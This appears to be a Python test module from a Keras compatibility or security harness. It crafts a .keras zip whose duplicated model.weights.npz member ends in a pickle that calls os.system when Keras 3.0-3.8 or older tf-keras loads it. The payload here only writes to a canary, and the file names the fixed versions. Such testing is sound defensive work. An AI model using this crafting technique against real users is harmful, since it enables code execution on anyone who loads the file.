"""A pickle posing as the weights: a .keras zip that holds model.weights.npz twice, the second copy a pickle.

The published malicious .keras file of issue 18: a zip whose weights member is written twice (zipfile
returns the last copy) and whose last copy is a pickle that calls os.system. The npz weights store reads
that member with np.load(..., allow_pickle=True) in Keras 3.0-3.8 (keras/src/saving/saving_lib.py
NpzIOStore), in the Keras 2 .keras format (TF 2.13-2.15) and in tf-keras up to 2.19; an HDF5 weights
member would be read instead, so the crafted zip has none. The model is plain Dense layers. The
pickle's command only appends the load's phase to $KC_CANARY.
"""
import io

import numpy as np
import tensorflow as tf

from runner.harness import crafting

keras = tf.keras

SOURCE = "https://github.com/keras-team/keras/blob/v3.8.0/keras/src/saving/saving_lib.py"
CLAIM = "Keras 3.0-3.8's npz weights store calls np.load(allow_pickle=True), so a plain load_model runs a pickle in model.weights.npz whatever safe_mode says (fixed in 3.9.0)."
FIX = "Load only files you trust, in a sandbox (keras-compat check --sandbox); Keras >= 3.9 and tf-keras >= 2.20 refuse the pickle."
CANARY = True
# What a vector does depends on the Keras that loads it, not the one that wrote it: each env loads the file
# it crafted itself (the vector table), not other envs' copies.
PAIRS = "same"

x = np.linspace(-1.0, 1.0, 12, dtype="float32").reshape(3, 4)
y = x * 3.0


def build():
    inputs = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(4, name="dense")(inputs)
    return keras.Model(inputs, keras.layers.Dense(4, name="out")(hidden))


def craft(fmt, path, model):
    crafting.require_zip(fmt, path)
    kept = [(name, data) for name, data in crafting.members(path) if name != "model.weights.h5"]
    decoy = io.BytesIO()
    np.savez(decoy, __root__=np.zeros(1, dtype="float32"))  # the first copy: what a reader of the first one sees
    crafting.write_zip(path, kept + [("model.weights.npz", decoy.getvalue()),
                                     ("model.weights.npz", crafting.payload_pickle())])


# %% train

# %% serve

# %% rebuild
